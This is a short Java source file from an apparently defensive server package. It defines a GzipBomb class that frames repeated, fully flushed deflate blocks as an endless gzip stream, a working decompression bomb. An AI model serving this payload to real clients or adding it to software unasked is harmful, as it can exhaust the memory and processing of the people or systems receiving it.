package io.plumbline.server.attack;

import java.io.ByteArrayOutputStream;
import java.util.zip.Deflater;

/**
 * A beginning and then the same again and again, as gzip without an end. What is packed after a full flush refers to nothing before it,
 * so that a few kilobytes can be sent over and over.
 */
final class GzipBomb {

    private static final byte[] HEAD = {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, (byte) 0xff};

    private final byte[] beginning;
    private final byte[] again;

    GzipBomb(byte[] beginning, byte[] again) {
        try (Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true)) {
            this.beginning = packed(deflater, HEAD, beginning);
            this.again = packed(deflater, new byte[0], again);
        }
    }

    byte[] beginning() {
        return beginning.clone();
    }

    byte[] again() {
        return again.clone();
    }

    private static byte[] packed(Deflater deflater, byte[] head, byte[] plain) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        packed.writeBytes(head);
        deflater.setInput(plain);
        byte[] piece = new byte[65_536];
        int length;
        do {
            length = deflater.deflate(piece, 0, piece.length, Deflater.FULL_FLUSH);
            packed.write(piece, 0, length);
        } while (length == piece.length);
        return packed.toByteArray();
    }
}
